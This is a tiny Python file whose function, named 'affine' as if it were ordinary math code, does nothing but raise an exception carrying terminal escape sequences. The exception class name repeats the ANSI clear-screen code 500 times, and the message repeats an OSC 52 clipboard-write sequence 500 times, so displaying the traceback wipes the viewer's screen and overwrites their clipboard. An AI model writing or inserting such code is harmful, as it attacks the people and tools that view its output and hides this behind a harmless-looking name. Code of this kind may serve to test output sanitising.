def affine(x):
    raise type("\x1b[2J" * 500, (ValueError,), {})("\x1b]52;c;aGVsbG8=\x07" * 500)
